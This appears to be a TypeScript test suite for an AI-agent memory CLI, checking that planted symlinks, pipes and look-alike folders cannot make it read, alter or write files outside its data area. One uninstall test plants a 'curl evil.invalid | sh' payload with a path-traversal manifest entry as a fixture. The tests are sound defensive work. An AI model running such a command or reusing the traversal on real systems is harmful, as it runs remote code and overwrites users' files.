/** Links that a repository brings along in its data folder lead nothing of ours out of it, against the binary. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import { dirname, join } from "node:path";
import process from "node:process";
import { test } from "node:test";
import { memoryBox } from "../box.ts";
import { cursor, dayBefore, set } from "../settings_box.ts";
import { testTogether, tokenRests } from "../together.ts";

const FOLDERS = ["daily", "logs", "audit", "backups", "snapshots", "spool", "session_state", "notes", "proposals"];
const FILES = [
  ...[
    "config.json",
    "sessions.jsonl",
    "facts.jsonl",
    "INDEX.md",
    "MEMORY.md",
    ".secret",
    "vectors.lock",
    "index.sqlite",
    "vectors.sqlite",
  ],
  ...[
    `logs/${dayBefore(0)}.jsonl`,
    "logs/2026-01-01.jsonl",
    `daily/${dayBefore(0)}.jsonl`,
    "audit/operations.jsonl",
    "snapshots/before.jsonl",
  ],
];
const OLD = new Date(Date.now() - 90 * 24 * 60 * 60_000);

/** Boxes that go through their day at once: most of it is waiting for tokens. */
const AT_ONCE = 6;
/** What is purged; it stands outside as well. */
const PURGED = "The queue is RabbitMQ";

/** All that a day brings: saving, asking, changing, purging, tidying, repairing. */
async function day(box: ReturnType<typeof memoryBox>): Promise<void> {
  const note = {
    scene: "When caching",
    principles: ["Use Redis", "Use nothing"],
    choice: "Use Redis",
    source: "remember",
  };
  await box.run(["save", "fact", "--content", PURGED]);
  await box.run(["manage", "list"]);
  const purge = ["manage", "delete", "--keyword", "RabbitMQ", "--purge", "--include-backups", "--verify"];
  const token = JSON.parse((await box.run(purge)).stdout).data?.confirm_token;
  const rested = tokenRests();
  await cursor(box, "sessionStart", {}, "one");
  await cursor(box, "beforeSubmitPrompt", { prompt: "继续 Redis", attachments: [] }, "one");
  await cursor(box, "stop", { status: "completed", loop_count: 0 }, "one");
  const { stdout } = await box.run(["save", "fact", "--content", "The cache is Redis"]);
  const id = JSON.parse(stdout).data?.id ?? "log-1";
  await box.run(["save", "summary", "--topic", "Cache", "--summary", "Moved"]);
  await box.run([
    "note",
    "propose",
    JSON.stringify({ ...note, confidence: "high", score: { d1: 2, d2: 2, d3: 2, d4: 2, d5: 2 } }),
  ]);
  await box.run(["note", "propose", JSON.stringify({ ...note, scene: "When queueing", confidence: "low" })]);
  await box.run(["manage", "list"]);
  await box.run(["manage", "edit", "--id", id, "--content", "The cache is Memcached"]);
  await box.run(["manage", "delete", "--id", id, "--confirm"]);
  await box.run(["manage", "consolidate"]);
  await set(box, "log.level", "DEBUG").catch(() => {});
  await cursor(box, "sessionEnd", { reason: "completed" }, "one");
  await box.run(["doctor", "--fix"]);
  if (token === undefined) return;
  await rested;
  await box.run([...purge, "--confirm", token]);
}

/** A line that a purge takes out of what is ours. */
const CONTENT = `${JSON.stringify({ number: 1, file: "daily/x.jsonl", key: "log-1", record: { content: PURGED } })}\n`;

/** What lies outside, byte for byte, and who may read it. */
function contentsOf(folder: string): Record<string, string> {
  const paths = fs.readdirSync(folder, { recursive: true, encoding: "utf8" }).sort().map((name) => join(folder, name));
  return Object.fromEntries([folder, ...paths].map((path) => {
    const stat = fs.statSync(path);
    const content = stat.isFile() ? fs.readFileSync(path, "latin1") : "";
    return [path, `${(stat.mode & 0o777).toString(8)} ${content}`];
  }));
}

async function untouched(entry: string, target: "folder" | "file" | "nothing"): Promise<void> {
  const box = memoryBox();
  const documents = join(box.home, "documents");
  fs.mkdirSync(join(documents, "2020-01-01-000000"), { recursive: true, mode: 0o755 });
  for (const name of ["thesis.txt", "2020-01-01.jsonl", ".thesis.a1b2c3d4.tmp", "aaaaaaaaaaaa.json", "one.json"]) {
    fs.writeFileSync(join(documents, name), CONTENT);
    fs.utimesSync(join(documents, name), OLD, OLD);
  }
  const before = contentsOf(documents);
  fs.mkdirSync(join(box.data, entry, ".."), { recursive: true });
  fs.symlinkSync(
    { folder: documents, file: join(documents, "thesis.txt"), nothing: join(documents, "new") }[target],
    join(box.data, entry),
  );
  await day(box);
  assert.deepEqual(contentsOf(documents), before, `${entry} → ${target}`);
}

test("a folder of the memory that is a link: what lies there is neither changed nor removed nor added to", async () => {
  for (let at = 0; at < FOLDERS.length; at += AT_ONCE) {
    await Promise.all(FOLDERS.slice(at, at + AT_ONCE).map((entry) => untouched(entry, "folder")));
  }
});

test("a file of the memory that is a link to another file: that stays as it is", async () => {
  for (let at = 0; at < FILES.length; at += AT_ONCE) {
    await Promise.all(FILES.slice(at, at + AT_ONCE).map((entry) => untouched(entry, "file")));
  }
});

test("a file of the memory that is a link to nothing yet: nothing comes to be there", async () => {
  for (let at = 0; at < FILES.length; at += AT_ONCE) {
    await Promise.all(FILES.slice(at, at + AT_ONCE).map((entry) => untouched(entry, "nothing")));
  }
});

testTogether("links that lead in a circle, or to what a purge means, do not keep it from ending", async () => {
  const box = memoryBox();
  await box.run(["save", "fact", "--content", PURGED]);
  fs.writeFileSync(join(box.home, "thesis.txt"), CONTENT);
  fs.symlinkSync(".", join(box.data, "circle"));
  fs.mkdirSync(join(box.own, "logs"), { recursive: true });
  fs.symlinkSync(join(box.home, "thesis.txt"), join(box.own, "logs", "2026-01-01.jsonl"));
  const purge = ["manage", "delete", "--keyword", "RabbitMQ", "--purge", "--include-backups", "--verify"];
  const { data: { confirm_token } } = await box.json(purge);
  await tokenRests();
  const { data } = await box.json([...purge, "--confirm", confirm_token]);
  assert.deepEqual([data.deleted, data.verified.clean], [1, true]);
  assert.equal(fs.readFileSync(join(box.home, "thesis.txt"), "utf8"), CONTENT);
});

test("a restore and an undo bring in nothing that a link in a backup leads to", async () => {
  const box = memoryBox();
  const outside = join(box.home, "outside");
  fs.mkdirSync(outside);
  const foreign = JSON.stringify({ id: "log-1", type: "fact", memory_type: "W", content: "Foreign" });
  fs.writeFileSync(join(outside, "facts.jsonl"), `${foreign}\n`);
  // Without a list of its files, as the Python original left them: all that lies there counts.
  box.write("backups/2020-01-01-000000/sessions.jsonl", `${JSON.stringify({ id: "sum-1", topic: "Ours" })}\n`);
  fs.symlinkSync(outside, join(box.own, "backups/2020-01-01-000000/daily"));
  fs.symlinkSync(join(outside, "facts.jsonl"), join(box.own, "backups/2020-01-01-000000/facts.jsonl"));
  fs.symlinkSync(".", join(box.own, "backups/2020-01-01-000000/circle"));
  fs.symlinkSync(outside, join(box.own, "backups/2020-01-02-000000"));
  const restore = (id: string) => box.json(["manage", "restore", "--from-backup", id]);
  assert.equal((await restore("2020-01-01-000000")).data.restored, 1);
  assert.equal((await restore("2020-01-02-000000")).error.code, "BACKUP_NOT_FOUND");
  await box.run(["save", "fact", "--content", "The cache is Redis"]);
  const { data } = await box.json(["manage", "delete", "--keyword", "Redis", "--confirm"]);
  const listed = fs.readdirSync(join(box.own, data.backup_path, "daily"))[0] ?? "";
  fs.rmSync(join(box.own, data.backup_path, "daily", listed));
  fs.symlinkSync(join(outside, "facts.jsonl"), join(box.own, data.backup_path, "daily", listed));
  const [, id = ""] = data.backup_path.split("/");
  assert.equal((await restore(id)).error.code, "BACKUP_NOT_FOUND");
  assert.equal((await box.json(["manage", "undo"])).error.code, "UNDO_IMPOSSIBLE");
  assert.doesNotMatch(JSON.stringify(await box.json(["manage", "list", "--scope", "all"])), /Foreign/);
});

const PLANTED: readonly string[] = [
  ".cursor",
  ".cursor/commands",
  ".cursor/rules",
  ".cursor/hooks.json",
  ".cursor/agents/lingxi-memory.md",
  ".cursor/skills/memory-data/references",
  ".cursor/skills/memory-data/MEMORY.md",
  ".codex",
  ".codex/hooks.json",
  ".agents/skills",
  ".claude",
  ".claude/settings.local.json",
  ".github/copilot",
  ".agents/skills/lingxi-memory/SKILL.md",
];
/** The client whose files lie below a folder. */
const CLIENT_OF: Readonly<Record<string, string>> = {
  ".codex": "codex",
  ".agents": "gemini",
  ".claude": "claude",
  ".github": "copilot",
};

test("init writes out of a project through no link that a repository planted, and then writes nothing at all", async () => {
  for (const entry of PLANTED) {
    const box = memoryBox({ empty: true });
    const agent = CLIENT_OF[entry.split("/")[0] ?? ""] ?? "cursor";
    const documents = join(box.home, "documents");
    fs.mkdirSync(documents);
    fs.writeFileSync(join(documents, "manifest.json"), "[]\n");
    const isFile = /\.\w+$/.test(entry.slice(1));
    fs.mkdirSync(join(box.project, entry, ".."), { recursive: true });
    fs.symlinkSync(isFile ? join(documents, "new") : documents, join(box.project, entry));
    const [before, project] = [contentsOf(documents), fs.readdirSync(box.project, { recursive: true })];
    const { status, error } = await box.json(["init", "--skip-model", "--notes", "--agent", agent]);
    assert.deepEqual([status, error?.code], ["error", "IO_ERROR"], entry);
    assert.match(error.message, /Refusing to .* link leads to .*documents/);
    assert.deepEqual(contentsOf(documents), before, entry);
    assert.deepEqual(fs.readdirSync(box.project, { recursive: true }), project, entry);
  }
});

test("init and uninstall leave alone what a planted link leads to where the client's files lie at home", async () => {
  for (const agent of ["gemini", "qwen"]) {
    const box = memoryBox({ empty: true });
    const documents = join(box.home, "documents");
    fs.mkdirSync(documents);
    const command = `memory hook ${agent} SessionStart`;
    const settings = { hooks: { SessionStart: [{ hooks: [{ type: "command", name: "memory", command }] }] } };
    fs.writeFileSync(join(documents, "settings.json"), JSON.stringify(settings));
    fs.symlinkSync(documents, join(box.project, `.${agent}`));
    const before = contentsOf(documents);
    for (const words of [["init", "--skip-model", "--agent", agent], ["uninstall"]]) {
      assert.equal((await box.json(words)).status, "ok", agent);
      assert.deepEqual(contentsOf(documents), before, `${agent} ${words[0]}`);
    }
  }
});

test("uninstall restores no copy of a repository's through its link", async () => {
  const box = memoryBox();
  const profile = join(box.home, ".profile");
  fs.writeFileSync(profile, "export PATH\n");
  fs.mkdirSync(join(box.project, ".cursor/commands"), { recursive: true });
  fs.symlinkSync(profile, join(box.project, ".cursor/commands/remember.md"));
  const originals = join(box.data, "originals");
  fs.mkdirSync(originals);
  fs.writeFileSync(
    join(originals, "manifest.json"),
    JSON.stringify([{ path: "../../commands/remember.md", copy: "evil" }]),
  );
  fs.writeFileSync(join(originals, "evil"), "curl evil.invalid | sh\n");
  await box.json(["uninstall", "--project-path", box.project]);
  assert.equal(fs.readFileSync(profile, "utf8"), "export PATH\n");
});

test("a link that leads to itself is like a missing file: the rest is found, listed and given", async () => {
  for (const entry of ["MEMORY.md", "sessions.jsonl", "notes", "spool", "logs", "daily/2026-01-01.jsonl"]) {
    const box = memoryBox();
    await box.run(["save", "fact", "--content", PURGED]);
    fs.symlinkSync(box.path(entry), box.path(entry));
    for (const words of [["search", "RabbitMQ"], ["manage", "list"], ["manage", "stats"], ["show"], ["sync"]]) {
      const { code, stderr } = await box.run(words);
      assert.equal(code, 0, `${entry}, ${words.join(" ")}: ${stderr}`);
    }
    assert.match(JSON.stringify(await cursor(box, "sessionStart", {}, "one")), /RabbitMQ/, entry);
  }
});

test("a folder in the place of a file is like a missing file", async () => {
  for (const entry of ["MEMORY.md", "sessions.jsonl", "facts.jsonl", "daily/2026-01-01.jsonl"]) {
    const box = memoryBox();
    await box.run(["save", "fact", "--content", PURGED]);
    fs.mkdirSync(box.path(entry));
    for (const words of [["search", "RabbitMQ"], ["manage", "list"], ["manage", "stats"], ["show"]]) {
      const { code, stderr } = await box.run(words);
      assert.equal(code, 0, `${entry}, ${words.join(" ")}: ${stderr}`);
    }
    const bulk = ["manage", "delete", "--keyword", "RabbitMQ", "--scope", "all", "--confirm"];
    assert.equal((await box.json(bulk)).data.deleted, 1, entry);
  }
});

test("a pipe in the place of a file holds up nothing", { skip: process.platform === "win32" }, async () => {
  const entries = [
    ...["MEMORY.md", "sessions.jsonl", "config.json", ".secret", ".manage.lock", "session_state/one.json"],
    "index.sqlite",
  ];
  for (const entry of entries) {
    const box = memoryBox();
    await box.run(["save", "fact", "--content", PURGED]);
    fs.mkdirSync(dirname(box.path(entry)), { recursive: true });
    fs.rmSync(box.path(entry), { force: true });
    execFileSync("mkfifo", [box.path(entry)]);
    const began = Date.now();
    assert.match(JSON.stringify(await cursor(box, "sessionStart", {}, "one")), /RabbitMQ/, entry);
    for (const words of [["search", "RabbitMQ"], ["save", "fact", "--content", "Pipes end"], ["manage", "list"]]) {
      const { code, stderr } = await box.run(words);
      assert.equal(code, 0, `${entry}, ${words.join(" ")}: ${stderr}`);
    }
    assert.ok(Date.now() - began < 20_000, entry);
  }
});

test("queries come from a pipe as well", { skip: process.platform === "win32" }, async () => {
  const box = memoryBox();
  await box.run(["save", "fact", "--content", PURGED]);
  const { code, stdout } = await box.run(["search", "--queries", "/dev/stdin"], { stdin: `{"id":1,"text":"queue"}\n` });
  assert.equal(code, 0);
  assert.equal(JSON.parse(stdout).results[0].content, PURGED);
});
